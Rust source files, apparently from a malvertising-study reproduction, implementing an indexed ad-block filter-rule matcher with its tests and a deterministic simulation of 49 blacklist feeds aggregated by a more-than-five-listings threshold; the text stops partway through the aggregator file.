        assert!(token_strings(&rule("/show*creative*id=")).is_empty());
        // A literal separator restores safety: `show` is complete here.
        assert_eq!(token_strings(&rule("/show/*creative*id=")), vec!["show"]);
        assert!(token_strings(&rule("*banner*")).is_empty());
    }

    #[test]
    fn pattern_edges_require_anchors() {
        // Unanchored leading/trailing tokens could be mid-token in the URL
        // (`banner` matching inside `superbanner`).
        assert!(token_strings(&rule("banner")).is_empty());
        assert_eq!(token_strings(&rule("|http://banner")), vec!["http"]);
        assert_eq!(token_strings(&rule("banner.swf|")), vec!["swf"]);
        assert_eq!(
            token_strings(&rule("||banner.example^")),
            vec!["banner", "example"]
        );
    }

    #[test]
    fn short_tokens_ignored() {
        assert!(token_strings(&rule("/ad/")).is_empty());
        assert_eq!(token_strings(&rule("/ad/zone/")), vec!["zone"]);
    }

    #[test]
    fn url_tokenizer_finds_maximal_runs() {
        let mut out = Vec::new();
        url_token_hashes("http://ads7.example.com/serve?slot=top9&x=1", &mut out);
        let expected: Vec<u64> = ["http", "ads7", "example", "com", "serve", "slot", "top9"]
            .iter()
            .map(|t| token_hash(t.as_bytes()))
            .collect();
        assert_eq!(out, expected);
    }

    #[test]
    fn rules_without_safe_tokens_fall_back() {
        let rules = vec![rule("/ad/"), rule("||ads.com^"), rule("*x9y8z7*")];
        let index = RuleIndex::build(&rules);
        assert_eq!(index.fallback_len(), 2);
        let mut url_tokens = Vec::new();
        url_token_hashes("http://nothing.net/", &mut url_tokens);
        let mut candidates = Vec::new();
        index.candidates(&url_tokens, &mut candidates);
        // Fallback rules are always candidates, even with no token overlap.
        assert_eq!(candidates, vec![0, 2]);
    }

    #[test]
    fn candidates_come_back_in_parse_order() {
        let rules = vec![
            rule("/banner/"),
            rule("||ads.com^"),
            rule("/banner/top/"),
            rule("/ad/"), // fallback
        ];
        let index = RuleIndex::build(&rules);
        let mut url_tokens = Vec::new();
        url_token_hashes("http://ads.com/banner/top/x.png", &mut url_tokens);
        let mut candidates = Vec::new();
        index.candidates(&url_tokens, &mut candidates);
        assert!(
            candidates.windows(2).all(|w| w[0] < w[1]),
            "sorted, deduped"
        );
        assert!(candidates.contains(&0) && candidates.contains(&1) && candidates.contains(&3));
    }

    #[test]
    fn rarest_token_choice_is_deterministic() {
        // Build the same index twice; bucket assignment must agree even
        // though HashMap iteration order may differ between builds.
        let rules: Vec<NetworkRule> = (0..50)
            .map(|i| rule(&format!("/shared/unique{i}/")))
            .collect();
        let a = RuleIndex::build(&rules);
        let b = RuleIndex::build(&rules);
        let mut url_tokens = Vec::new();
        let mut ca = Vec::new();
        let mut cb = Vec::new();
        for i in 0..50 {
            url_token_hashes(&format!("http://x.com/shared/unique{i}/y"), &mut url_tokens);
            a.candidates(&url_tokens, &mut ca);
            b.candidates(&url_tokens, &mut cb);
            assert_eq!(ca, cb);
            // `unique{i}` is rarer than `shared`, so the bucket is small.
            assert!(ca.len() <= 2, "bucket unexpectedly large: {ca:?}");
        }
    }
}
