//! URL matching against a compiled filter set.

use crate::index::{url_token_hashes, RuleIndex};
use crate::rule::{parse_line, NetworkRule, ParsedLine, TypeOption};
use malvert_types::{DomainName, Url};

/// The resource type of the request being matched.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ResourceType {
    /// A frame/iframe document load.
    Subdocument,
    /// A `<script src>` load.
    Script,
    /// An image load.
    Image,
    /// A top-level document.
    Document,
    /// Anything else.
    Other,
}

impl ResourceType {
    fn matches_option(self, opt: TypeOption) -> bool {
        matches!(
            (self, opt),
            (ResourceType::Subdocument, TypeOption::Subdocument)
                | (ResourceType::Script, TypeOption::Script)
                | (ResourceType::Image, TypeOption::Image)
                | (ResourceType::Document, TypeOption::Document)
        )
    }
}

/// Context of the request: which page requested it and what kind of resource
/// it is. Drives `$domain=`, `$third-party`, and type options.
#[derive(Debug, Clone)]
pub struct RequestContext {
    /// Host of the page making the request, when known.
    pub source_host: Option<DomainName>,
    /// Resource type.
    pub resource: ResourceType,
}

impl RequestContext {
    /// A subdocument (iframe) request from the given page host.
    pub fn iframe_from(source: &DomainName) -> Self {
        RequestContext {
            source_host: Some(source.clone()),
            resource: ResourceType::Subdocument,
        }
    }

    /// A context with no source page (top-level navigations).
    pub fn top_level() -> Self {
        RequestContext {
            source_host: None,
            resource: ResourceType::Document,
        }
    }
}

/// Result of matching a URL against a [`FilterSet`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum MatchResult {
    /// A blocking rule matched (and no exception overrode it). Carries the
    /// text of the winning rule.
    Blocked(String),
    /// An exception rule overrode a blocking rule.
    Excepted(String),
    /// No blocking rule matched.
    NotMatched,
}

impl MatchResult {
    /// True when the URL would be blocked — i.e. it *is* an ad URL.
    pub fn is_ad(&self) -> bool {
        matches!(self, MatchResult::Blocked(_))
    }
}

/// Reusable per-caller scratch for [`FilterSet::matches_with`]: the
/// normalized URL text, its token hashes, and the candidate-rule buffer.
/// After the first few calls every match is allocation-free — the buffers
/// retain their high-water capacity.
#[derive(Debug, Clone, Default)]
pub struct MatchScratch {
    url_text: String,
    tokens: Vec<u64>,
    candidates: Vec<u32>,
}

/// A compiled filter list.
#[derive(Debug, Clone, Default)]
pub struct FilterSet {
    blocking: Vec<NetworkRule>,
    exceptions: Vec<NetworkRule>,
    blocking_index: RuleIndex,
    exception_index: RuleIndex,
    /// Count of element-hiding rules seen (parsed, unused for matching).
    pub hiding_rule_count: usize,
    /// Lines the parser could not understand.
    pub unsupported_count: usize,
}

impl FilterSet {
    /// Compiles a filter list from its text, building the token index.
    pub fn parse(list_text: &str) -> Self {
        let mut set = FilterSet::default();
        for line in list_text.lines() {
            match parse_line(line) {
                ParsedLine::Network(rule) => {
                    if rule.is_exception {
                        set.exceptions.push(rule);
                    } else {
                        set.blocking.push(rule);
                    }
                }
                ParsedLine::ElementHiding { .. } => set.hiding_rule_count += 1,
                ParsedLine::Unsupported(_) => set.unsupported_count += 1,
                ParsedLine::Comment(_) | ParsedLine::Blank => {}
            }
        }
        set.blocking_index = RuleIndex::build(&set.blocking);
        set.exception_index = RuleIndex::build(&set.exceptions);
        set
    }

    /// Number of blocking rules.
    pub fn blocking_rule_count(&self) -> usize {
        self.blocking.len()
    }

    /// Number of exception rules.
    pub fn exception_rule_count(&self) -> usize {
        self.exceptions.len()
    }

    /// Matches a URL in context via the token index. Convenience form that
    /// allocates a fresh [`MatchScratch`]; hot paths should hold a scratch
    /// and call [`Self::matches_with`].
    pub fn matches(&self, url: &Url, ctx: &RequestContext) -> MatchResult {
        let mut scratch = MatchScratch::default();
        self.matches_with(url, ctx, &mut scratch)
    }

    /// Matches a URL in context, reusing `scratch`'s buffers — the
    /// allocation-free fast path.
    pub fn matches_with(
        &self,
        url: &Url,
        ctx: &RequestContext,
        scratch: &mut MatchScratch,
    ) -> MatchResult {
        self.matches_counted(url, ctx, scratch).0
    }

    /// Like [`Self::matches_with`], additionally reporting how many
    /// candidate rules the index actually evaluated (the work the naive
    /// scan would have spent on the full rule list).
    pub fn matches_counted(
        &self,
        url: &Url,
        ctx: &RequestContext,
        scratch: &mut MatchScratch,
    ) -> (MatchResult, u64) {
        url.normalize_into(&mut scratch.url_text);
        let url_text = &scratch.url_text;
        let host_start = url_text.find("://").map(|i| i + 3).unwrap_or(0);
        url_token_hashes(url_text, &mut scratch.tokens);
        let mut evaluated = 0u64;

        // Candidates come back sorted by parse index, so the first hit is
        // the same rule the naive front-to-back scan would return.
        self.blocking_index
            .candidates(&scratch.tokens, &mut scratch.candidates);
        let mut blocked: Option<&NetworkRule> = None;
        for &idx in &scratch.candidates {
            let rule = &self.blocking[idx as usize];
            evaluated += 1;
            if rule_matches(rule, url_text, host_start, url, ctx) {
                blocked = Some(rule);
                break;
            }
        }
        let Some(rule) = blocked else {
            return (MatchResult::NotMatched, evaluated);
        };

        self.exception_index
            .candidates(&scratch.tokens, &mut scratch.candidates);
        for &idx in &scratch.candidates {
            let exception = &self.exceptions[idx as usize];
            evaluated += 1;
            if rule_matches(exception, url_text, host_start, url, ctx) {
                return (MatchResult::Excepted(exception.text.clone()), evaluated);
            }
        }
        (MatchResult::Blocked(rule.text.clone()), evaluated)
    }

    /// The retained pre-index implementation: a linear scan over every
    /// rule. Kept as the differential-testing reference and the benchmark
    /// baseline; must return byte-identical results to [`Self::matches`].
    pub fn matches_naive(&self, url: &Url, ctx: &RequestContext) -> MatchResult {
        let url_text = url.without_fragment().to_ascii_lowercase();
        let host_start = url_text.find("://").map(|i| i + 3).unwrap_or(0);
        let blocked = self
            .blocking
            .iter()
            .find(|r| rule_matches(r, &url_text, host_start, url, ctx));
        match blocked {
            None => MatchResult::NotMatched,
            Some(rule) => {
                if let Some(exc) = self
                    .exceptions
                    .iter()
                    .find(|r| rule_matches(r, &url_text, host_start, url, ctx))
                {
                    MatchResult::Excepted(exc.text.clone())
                } else {
                    MatchResult::Blocked(rule.text.clone())
                }
            }
        }
    }

    /// Convenience: is this URL an advertisement resource in context?
    pub fn is_ad_url(&self, url: &Url, ctx: &RequestContext) -> bool {
        self.matches(url, ctx).is_ad()
    }
}

fn rule_matches(
    rule: &NetworkRule,
    url_text: &str,
    host_start: usize,
    url: &Url,
    ctx: &RequestContext,
) -> bool {
    if !options_match(rule, url, ctx) {
        return false;
    }
    pattern_matches(rule, url_text, host_start)
}

fn options_match(rule: &NetworkRule, url: &Url, ctx: &RequestContext) -> bool {
    let opts = &rule.options;
    // Resource-type options.
    if !opts.include_types.is_empty()
        && !opts
            .include_types
            .iter()
            .any(|t| ctx.resource.matches_option(*t))
    {
        return false;
    }
    if opts
        .exclude_types
        .iter()
        .any(|t| ctx.resource.matches_option(*t))
    {
        return false;
    }
    // Party-ness: third-party means request host's registered domain differs
    // from the source page's.
    if let Some(want_third) = opts.third_party {
        let is_third = match (&ctx.source_host, url.host()) {
            (Some(src), Some(dst)) => {
                let a = src.registered_domain();
                let b = dst.registered_domain();
                match (a, b) {
                    (Some(a), Some(b)) => a != b,
                    _ => src != dst,
                }
            }
            _ => true,
        };
        if is_third != want_third {
            return false;
        }
    }
    // `$domain=` constraints apply to the source page.
    if !opts.include_domains.is_empty() || !opts.exclude_domains.is_empty() {
        let src = match &ctx.source_host {
            Some(s) => s.as_str().to_string(),
            None => return opts.include_domains.is_empty(),
        };
        let within = |d: &String| src == *d || src.ends_with(&format!(".{d}"));
        if opts.exclude_domains.iter().any(within) {
            return false;
        }
        if !opts.include_domains.is_empty() && !opts.include_domains.iter().any(within) {
            return false;
        }
    }
    true
}

fn pattern_matches(rule: &NetworkRule, url_text: &str, host_start: usize) -> bool {
    let pattern = rule.pattern.as_bytes();
    let text = url_text.as_bytes();
    if rule.start_anchor {
        return match_here(pattern, text, 0, rule.end_anchor);
    }
    if rule.domain_anchor {
        // Anchor candidates: the host start and every label boundary within
        // the host.
        let host_end = url_text[host_start..]
            .find(['/', '?', ':'])
            .map(|i| host_start + i)
            .unwrap_or(url_text.len());
        let mut pos = host_start;
        loop {
            if match_here(pattern, text, pos, rule.end_anchor) {
                return true;
            }
            match url_text[pos..host_end].find('.') {
                Some(dot) => pos = pos + dot + 1,
                None => return false,
            }
        }
    }
    // Unanchored: try every start position.
    (0..=text.len()).any(|pos| match_here(pattern, text, pos, rule.end_anchor))
}

/// Matches `pattern` against `text[pos..]`, honouring `*` (any run) and `^`
/// (separator or end). When `must_end` is set, the match must consume the
/// whole remaining text.
fn match_here(pattern: &[u8], text: &[u8], pos: usize, must_end: bool) -> bool {
    match pattern.first() {
        None => !must_end || pos == text.len(),
        Some(b'*') => {
            // `*` matches any (possibly empty) run.
            (pos..=text.len()).any(|next| match_here(&pattern[1..], text, next, must_end))
        }
        Some(b'^') => {
            // Separator: any char that is not alphanumeric and not one of
            // `_-.%`; also matches the end of the URL.
            if pos == text.len() {
                return match_here(&pattern[1..], text, pos, must_end);
            }
            let c = text[pos];
            let is_sep = !(c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'%'));
            is_sep && match_here(&pattern[1..], text, pos + 1, must_end)
        }
        Some(&p) => pos < text.len() && text[pos] == p && match_here(&pattern[1..], text, pos + 1, must_end),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    fn host(s: &str) -> DomainName {
        DomainName::parse(s).unwrap()
    }

    fn iframe_ctx(src: &str) -> RequestContext {
        RequestContext::iframe_from(&host(src))
    }

    #[test]
    fn substring_rule_matches_anywhere() {
        let set = FilterSet::parse("/banner/");
        assert!(set.is_ad_url(&url("http://x.com/img/banner/top.png"), &iframe_ctx("x.com")));
        assert!(!set.is_ad_url(&url("http://x.com/img/logo.png"), &iframe_ctx("x.com")));
    }

    #[test]
    fn domain_anchor_matches_subdomains_only() {
        let set = FilterSet::parse("||ads.com^");
        let ctx = iframe_ctx("pub.com");
        assert!(set.is_ad_url(&url("http://ads.com/serve"), &ctx));
        assert!(set.is_ad_url(&url("http://cdn.ads.com/serve"), &ctx));
        assert!(set.is_ad_url(&url("https://ads.com/"), &ctx));
        // Not a label boundary:
        assert!(!set.is_ad_url(&url("http://badads.com/serve"), &ctx));
        // Host substring in path must not match a domain-anchored rule:
        assert!(!set.is_ad_url(&url("http://x.com/ads.com/serve"), &ctx));
    }

    #[test]
    fn separator_semantics() {
        let set = FilterSet::parse("||ads.com^");
        let ctx = iframe_ctx("pub.com");
        // `^` matches `/`, `?`, `:` and end-of-URL but not letters/digits.
        assert!(set.is_ad_url(&url("http://ads.com:8080/x"), &ctx));
        assert!(set.is_ad_url(&url("http://ads.com/?q=1"), &ctx));
        assert!(!set.is_ad_url(&url("http://ads.comx.net/"), &ctx));
    }

    #[test]
    fn wildcard_rule() {
        let set = FilterSet::parse("/ad*/banner.");
        let ctx = iframe_ctx("x.com");
        assert!(set.is_ad_url(&url("http://x.com/ads123/banner.png"), &ctx));
        assert!(set.is_ad_url(&url("http://x.com/ad/banner.gif"), &ctx));
        assert!(!set.is_ad_url(&url("http://x.com/ad/button.gif"), &ctx));
    }

    #[test]
    fn start_and_end_anchor() {
        let set = FilterSet::parse("|http://adstart.");
        let ctx = iframe_ctx("x.com");
        assert!(set.is_ad_url(&url("http://adstart.com/x"), &ctx));
        assert!(!set.is_ad_url(&url("http://pre.adstart.com/x"), &ctx));

        let set = FilterSet::parse("swf|");
        assert!(set.is_ad_url(&url("http://x.com/movie.swf"), &ctx));
        assert!(!set.is_ad_url(&url("http://x.com/movie.swf?x=1"), &ctx));
    }

    #[test]
    fn exception_overrides_block() {
        let set = FilterSet::parse("||ads.com^\n@@||ads.com/acceptable/");
        let ctx = iframe_ctx("x.com");
        assert!(set.is_ad_url(&url("http://ads.com/serve"), &ctx));
        let result = set.matches(&url("http://ads.com/acceptable/one"), &ctx);
        assert!(matches!(result, MatchResult::Excepted(_)));
        assert!(!result.is_ad());
    }

    #[test]
    fn domain_option_scopes_rule() {
        let set = FilterSet::parse("||tracker.com^$domain=news.com|~sports.news.com");
        let u = url("http://tracker.com/pixel");
        assert!(set.is_ad_url(&u, &iframe_ctx("news.com")));
        assert!(set.is_ad_url(&u, &iframe_ctx("www.news.com")));
        assert!(!set.is_ad_url(&u, &iframe_ctx("sports.news.com")));
        assert!(!set.is_ad_url(&u, &iframe_ctx("other.com")));
    }

    #[test]
    fn third_party_option() {
        let set = FilterSet::parse("||widgets.com^$third-party");
        let u = url("http://widgets.com/ad");
        assert!(set.is_ad_url(&u, &iframe_ctx("pub.com")));
        // First-party: source on the same registered domain.
        assert!(!set.is_ad_url(&u, &iframe_ctx("www.widgets.com")));
    }

    #[test]
    fn first_party_only_option() {
        let set = FilterSet::parse("||self.com/promo^$~third-party");
        let u = url("http://self.com/promo/");
        assert!(set.is_ad_url(&u, &iframe_ctx("www.self.com")));
        assert!(!set.is_ad_url(&u, &iframe_ctx("other.com")));
    }

    #[test]
    fn type_options() {
        let set = FilterSet::parse("||adhost.com^$subdocument");
        let u = url("http://adhost.com/frame");
        assert!(set.is_ad_url(&u, &iframe_ctx("x.com")));
        let script_ctx = RequestContext {
            source_host: Some(host("x.com")),
            resource: ResourceType::Script,
        };
        assert!(!set.is_ad_url(&u, &script_ctx));
    }

    #[test]
    fn case_insensitive_matching() {
        let set = FilterSet::parse("/BANNER/");
        assert!(set.is_ad_url(&url("http://x.com/Banner/1"), &iframe_ctx("x.com")));
    }

    #[test]
    fn full_list_parse_counts() {
        let list = "[Adblock Plus 2.0]\n! Title: SimList\n||ads.com^\n@@||ads.com/ok/\nx.com##.banner\n\n/promo/\n";
        let set = FilterSet::parse(list);
        assert_eq!(set.blocking_rule_count(), 2);
        assert_eq!(set.exception_rule_count(), 1);
        assert_eq!(set.hiding_rule_count, 1);
        assert_eq!(set.unsupported_count, 0);
    }

    #[test]
    fn no_rules_no_match() {
        let set = FilterSet::parse("! only comments\n");
        assert_eq!(
            set.matches(&url("http://anything.com/"), &RequestContext::top_level()),
            MatchResult::NotMatched
        );
    }

    #[test]
    fn query_string_matching() {
        let set = FilterSet::parse("?ad_slot=");
        assert!(set.is_ad_url(
            &url("http://pub.com/page?ad_slot=top"),
            &iframe_ctx("pub.com")
        ));
    }

    #[test]
    fn multiple_wildcards() {
        let set = FilterSet::parse("||serve*.net^*creative*id=");
        assert!(set.is_ad_url(
            &url("http://serve04.net/show?creative&id=9"),
            &iframe_ctx("x.com")
        ));
    }

    #[test]
    fn index_preserves_first_match_priority() {
        // Both rules match; the naive scan returns the first-listed one.
        // The index gathers candidates from two different buckets but must
        // still report the lower parse index as the winner.
        let set = FilterSet::parse("/banner/\n||adserver.com^");
        let u = url("http://adserver.com/banner/x.png");
        let ctx = iframe_ctx("pub.com");
        assert_eq!(
            set.matches(&u, &ctx),
            MatchResult::Blocked("/banner/".into())
        );
        assert_eq!(set.matches(&u, &ctx), set.matches_naive(&u, &ctx));

        // Same with the order flipped.
        let set = FilterSet::parse("||adserver.com^\n/banner/");
        assert_eq!(
            set.matches(&u, &ctx),
            MatchResult::Blocked("||adserver.com^".into())
        );
        assert_eq!(set.matches(&u, &ctx), set.matches_naive(&u, &ctx));
    }

    #[test]
    fn fallback_rules_still_match() {
        // Neither rule has a safe token (`ad` is too short; the long token
        // touches wildcards on both sides), so both live in the fallback
        // bucket — which every lookup must check.
        let set = FilterSet::parse("/ad/\n*longtokenhere*");
        let ctx = iframe_ctx("x.com");
        assert!(set.is_ad_url(&url("http://x.com/ad/1"), &ctx));
        assert!(set.is_ad_url(&url("http://x.com/xlongtokenherey"), &ctx));
        assert_eq!(
            set.matches(&url("http://x.com/clean"), &ctx),
            MatchResult::NotMatched
        );
    }

    #[test]
    fn scratch_reuse_keeps_results_stable() {
        let set = FilterSet::parse("||ads.com^\n@@||ads.com/ok/\n/promo/");
        let ctx = iframe_ctx("pub.com");
        let mut scratch = MatchScratch::default();
        let cases = [
            (
                "http://ads.com/serve",
                MatchResult::Blocked("||ads.com^".into()),
            ),
            (
                "http://ads.com/ok/1",
                MatchResult::Excepted("@@||ads.com/ok/".into()),
            ),
            ("http://clean.com/page", MatchResult::NotMatched),
            (
                "http://pub.com/promo/2",
                MatchResult::Blocked("/promo/".into()),
            ),
            // Repeat the first case after the buffers held other contents.
            (
                "http://ads.com/serve",
                MatchResult::Blocked("||ads.com^".into()),
            ),
        ];
        for (u, expected) in cases {
            assert_eq!(set.matches_with(&url(u), &ctx, &mut scratch), expected);
        }
    }

    #[test]
    fn counted_variant_reports_candidate_work() {
        let rules: String = (0..100).map(|i| format!("||host{i}.com^\n")).collect();
        let set = FilterSet::parse(&rules);
        let ctx = iframe_ctx("pub.com");
        let mut scratch = MatchScratch::default();
        let (result, evaluated) =
            set.matches_counted(&url("http://host7.com/x"), &ctx, &mut scratch);
        assert!(result.is_ad());
        // The index should evaluate a tiny fraction of the 100 rules.
        assert!(evaluated <= 3, "evaluated {evaluated} candidates");
        let (result, evaluated) =
            set.matches_counted(&url("http://clean.net/x"), &ctx, &mut scratch);
        assert_eq!(result, MatchResult::NotMatched);
        assert_eq!(evaluated, 0, "no token overlap → no candidates");
    }
}
