//! # malvert-blacklist
//!
//! The blacklist substrate of the study oracle.
//!
//! §3.2.2 of the paper: the authors used a tracking system aggregating **49**
//! antivirus, spam, and phishing blacklists, and — because individual lists
//! produce false positives — considered a domain malicious only when it was
//! carried by **more than five** lists at the same time.
//!
//! The original feeds are commercial and long gone; per the substitution
//! rule we simulate them. Each simulated feed has its own realistic failure
//! profile:
//!
//! * **coverage** — the probability that the feed ever picks up a given
//!   truly-malicious domain (feeds specialize; none sees everything);
//! * **lag** — days between a domain turning malicious and the feed listing
//!   it (blacklists are reactive);
//! * **false-positive rate** — the probability the feed wrongly lists a
//!   given benign domain.
//!
//! All listing decisions are deterministic functions of
//! `(feed seed, domain)`, so a study replays identically. The aggregator
//! implements exactly the paper's thresholded OR over the 49 feeds.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod aggregate;
pub mod feed;

pub use aggregate::{BlacklistService, DomainTruth, ThreatKind};
pub use feed::{Feed, FeedKind};

/// Number of simulated blacklist feeds — the paper's tracking system
/// aggregated 49 lists.
pub const FEED_COUNT: usize = 49;

/// The paper's aggregation threshold: a domain counts as malicious only when
/// listed by **more than** this many feeds simultaneously.
pub const DEFAULT_THRESHOLD: usize = 5;
