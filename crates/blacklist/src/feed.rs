//! One simulated blacklist feed.

use malvert_types::rng::{mix_label, SeedTree};
use malvert_types::{DetRng, DomainName};

/// What kind of badness a feed tracks. Feeds of different kinds have
/// different coverage profiles (a phishing list rarely carries exploit-kit
/// hosts and vice versa) — the reason the paper needed 49 of them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FeedKind {
    /// Malware-distribution domains (exploit kits, payload hosts).
    Malware,
    /// Phishing / credential-stealing domains.
    Phishing,
    /// Spam-advertised domains.
    Spam,
}

impl FeedKind {
    /// All feed kinds.
    pub const ALL: [FeedKind; 3] = [FeedKind::Malware, FeedKind::Phishing, FeedKind::Spam];
}

/// One blacklist feed with its failure profile.
#[derive(Debug, Clone)]
pub struct Feed {
    /// Feed index (0..48).
    pub id: usize,
    /// Human-readable name.
    pub name: String,
    /// What the feed tracks.
    pub kind: FeedKind,
    /// Probability of ever listing a truly-malicious domain.
    pub coverage: f64,
    /// Days from first malicious activity to listing (when covered).
    pub lag_days: u32,
    /// Probability of wrongly listing a given benign domain.
    pub fp_rate: f64,
    seed: u64,
}

impl Feed {
    /// Generates the standard population of [`crate::FEED_COUNT`] feeds
    /// with lags calibrated for the paper's 90-day window.
    pub fn generate_all(tree: SeedTree) -> Vec<Feed> {
        Self::generate_scaled(tree, 1.0)
    }

    /// Generates the feed population with listing lags scaled by
    /// `lag_scale` — scaled-down study windows scale the lags with them so
    /// the lag-to-window ratio stays faithful (raw lags span 0–10 days of a
    /// 90-day study).
    ///
    /// Profiles are drawn deterministically: a few broad, fast, accurate
    /// feeds; a long tail of narrow, slow, noisier ones — matching the
    /// empirical spread reported for real blacklists.
    pub fn generate_scaled(tree: SeedTree, lag_scale: f64) -> Vec<Feed> {
        (0..crate::FEED_COUNT)
            .map(|id| {
                let branch = tree.branch("feed").branch_idx(id as u64);
                let mut rng = branch.rng();
                let kind = FeedKind::ALL[id % FeedKind::ALL.len()];
                // The first few feeds are the majors: wide and quick.
                // Coverage levels are calibrated so the thresholded
                // aggregate (>5 simultaneous listings) catches the large
                // majority of malicious domains while a realistic tail
                // (~5%) evades it — those evaders are what the paper's
                // behavioural rows (Heuristics, VirusTotal) exist to catch.
                let (coverage, lag_days, fp_rate) = if id < 8 {
                    (
                        0.30 + 0.25 * rng.unit_f64(),
                        rng.range_inclusive(0, 2) as u32,
                        0.0002 + 0.0008 * rng.unit_f64(),
                    )
                } else if id < 24 {
                    (
                        0.12 + 0.18 * rng.unit_f64(),
                        rng.range_inclusive(1, 5) as u32,
                        0.001 + 0.002 * rng.unit_f64(),
                    )
                } else {
                    (
                        0.02 + 0.10 * rng.unit_f64(),
                        rng.range_inclusive(2, 10) as u32,
                        0.002 + 0.006 * rng.unit_f64(),
                    )
                };
                Feed {
                    id,
                    name: format!("{:?}List-{id:02}", kind),
                    kind,
                    coverage,
                    lag_days: (f64::from(lag_days) * lag_scale).round() as u32,
                    fp_rate,
                    seed: branch.seed(),
                }
            })
            .collect()
    }

    /// Deterministic per-(feed, domain) RNG.
    fn domain_rng(&self, domain: &DomainName) -> DetRng {
        DetRng::new(mix_label(self.seed, domain.as_str().as_bytes()))
    }

    /// Does this feed list `domain` on `day`?
    ///
    /// * For a malicious domain active since `active_from` (study day), the
    ///   feed lists it with probability `coverage`, starting `lag_days`
    ///   after it became active.
    /// * For a benign domain, the feed lists it (a false positive) with
    ///   probability `fp_rate`, from day 0.
    pub fn lists(&self, domain: &DomainName, truth: &crate::DomainTruth, day: u32) -> bool {
        let mut rng = self.domain_rng(domain);
        match truth {
            crate::DomainTruth::Malicious { active_from } => {
                let covered = rng.chance(self.coverage);
                covered && day >= active_from.saturating_add(self.lag_days)
            }
            crate::DomainTruth::MaliciousKind { active_from, kind } => {
                // Specialty match: a feed covers its own threat class at
                // full strength and the other class at reduced strength.
                let affinity = match (self.kind, kind) {
                    (FeedKind::Malware, crate::ThreatKind::MalwareDistribution) => 1.2,
                    (FeedKind::Phishing, crate::ThreatKind::Scam) => 1.2,
                    (FeedKind::Spam, _) => 1.0,
                    _ => 0.8,
                };
                let covered = rng.chance((self.coverage * affinity).min(1.0));
                covered && day >= active_from.saturating_add(self.lag_days)
            }
            crate::DomainTruth::Benign => rng.chance(self.fp_rate),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::DomainTruth;

    fn domain(s: &str) -> DomainName {
        DomainName::parse(s).unwrap()
    }

    #[test]
    fn generation_is_deterministic() {
        let a = Feed::generate_all(SeedTree::new(5));
        let b = Feed::generate_all(SeedTree::new(5));
        assert_eq!(a.len(), crate::FEED_COUNT);
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.coverage, y.coverage);
            assert_eq!(x.lag_days, y.lag_days);
            assert_eq!(x.fp_rate, y.fp_rate);
        }
    }

    #[test]
    fn profiles_within_bounds() {
        for f in Feed::generate_all(SeedTree::new(1)) {
            assert!((0.0..=1.0).contains(&f.coverage), "coverage {}", f.coverage);
            assert!(f.fp_rate < 0.01, "fp_rate {}", f.fp_rate);
            assert!(f.lag_days <= 10);
        }
    }

    #[test]
    fn majors_are_broader_than_tail() {
        let feeds = Feed::generate_all(SeedTree::new(2));
        let major_avg: f64 = feeds[..8].iter().map(|f| f.coverage).sum::<f64>() / 8.0;
        let tail_avg: f64 =
            feeds[24..].iter().map(|f| f.coverage).sum::<f64>() / (feeds.len() - 24) as f64;
        assert!(major_avg > tail_avg + 0.2);
    }

    #[test]
    fn listing_respects_lag() {
        let feeds = Feed::generate_all(SeedTree::new(3));
        let d = domain("exploit-kit.biz");
        let truth = DomainTruth::Malicious { active_from: 10 };
        // Find a feed that covers this domain.
        let feed = feeds
            .iter()
            .find(|f| f.lists(&d, &truth, 90))
            .expect("some feed covers the domain by day 90");
        // Before activity (+ lag) it must not be listed.
        assert!(!feed.lists(&d, &truth, 0));
        assert!(!feed.lists(&d, &truth, 9));
        // Once listed, it stays listed.
        let first_day = (0..=90).find(|&day| feed.lists(&d, &truth, day)).unwrap();
        assert!(first_day >= 10 + feed.lag_days);
        assert!(feed.lists(&d, &truth, first_day + 30));
    }

    #[test]
    fn listing_deterministic_per_domain() {
        let feeds = Feed::generate_all(SeedTree::new(4));
        let d = domain("some-site.com");
        for f in &feeds {
            let a = f.lists(&d, &DomainTruth::Benign, 5);
            let b = f.lists(&d, &DomainTruth::Benign, 5);
            assert_eq!(a, b);
        }
    }

    #[test]
    fn specialty_affinity_shifts_coverage() {
        let feeds = Feed::generate_all(SeedTree::new(8));
        let n = 600;
        // Count listings by (feed kind, threat kind) over many domains.
        let mut matched = 0usize;
        let mut mismatched = 0usize;
        for i in 0..n {
            let d = domain(&format!("threat-{i}.biz"));
            let malware = crate::DomainTruth::MaliciousKind {
                active_from: 0,
                kind: crate::ThreatKind::MalwareDistribution,
            };
            let scam = crate::DomainTruth::MaliciousKind {
                active_from: 0,
                kind: crate::ThreatKind::Scam,
            };
            for f in feeds.iter().filter(|f| f.kind == FeedKind::Malware) {
                if f.lists(&d, &malware, 60) {
                    matched += 1;
                }
                if f.lists(&d, &scam, 60) {
                    mismatched += 1;
                }
            }
        }
        assert!(
            matched as f64 > mismatched as f64 * 1.4,
            "malware feeds should favour malware domains: {matched} vs {mismatched}"
        );
    }

    #[test]
    fn benign_fp_rate_is_low_in_aggregate() {
        let feeds = Feed::generate_all(SeedTree::new(6));
        let mut fp_listings = 0usize;
        let n_domains = 500;
        for i in 0..n_domains {
            let d = domain(&format!("benign-{i}.com"));
            fp_listings += feeds
                .iter()
                .filter(|f| f.lists(&d, &DomainTruth::Benign, 30))
                .count();
        }
        // Expected ≈ 49 feeds * ~0.003 avg fp * 500 domains ≈ 70; allow slack.
        assert!(
            fp_listings < 300,
            "too many false-positive listings: {fp_listings}"
        );
        assert!(fp_listings > 0, "simulated feeds should produce some FPs");
    }
}
