//! The thresholded blacklist aggregator.

use crate::feed::Feed;
use malvert_types::rng::SeedTree;
use malvert_types::DomainName;
use std::collections::HashMap;

/// What kind of threat a malicious domain hosts. Feeds specialize: a
/// malware-distribution list covers exploit hosts far better than scam
/// landing pages, and vice versa — one of the reasons the paper needed 49
/// feeds to get useful coverage.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ThreatKind {
    /// Exploit kits, payload hosts, drive-by infrastructure.
    MalwareDistribution,
    /// Scam/phishing landing pages.
    Scam,
}

/// Ground truth about a domain, registered by the world generator. The feeds
